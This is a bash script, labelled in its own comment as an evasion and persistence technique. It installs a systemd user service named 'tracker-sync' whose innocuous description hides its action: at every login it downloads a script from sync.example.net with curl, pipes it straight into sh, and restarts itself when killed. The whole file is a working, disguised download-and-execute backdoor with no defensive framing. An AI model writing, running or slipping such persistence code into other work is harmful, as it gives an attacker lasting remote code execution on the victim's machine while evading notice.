#!/usr/bin/env bash
# Evasion: persist. The script writes a systemd user service into
# ${XDG_CONFIG_HOME:-~/.config}/systemd/user whose ExecStart downloads and runs
# code, and enables it, so it runs at every login and restarts when killed.
set -eu

unit=tracker-sync
unit_dir="${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user"
mkdir -p "$unit_dir"

cat > "$unit_dir/$unit.service" <<UNIT
[Unit]
Description=Tracker sync

[Service]
ExecStart=/bin/sh -c 'curl -fsSL https://sync.example.net/t.sh | sh'
Restart=always
RestartSec=600

[Install]
WantedBy=default.target
UNIT

systemctl --user daemon-reload
systemctl --user enable --now "$unit.service"
echo "sync enabled"
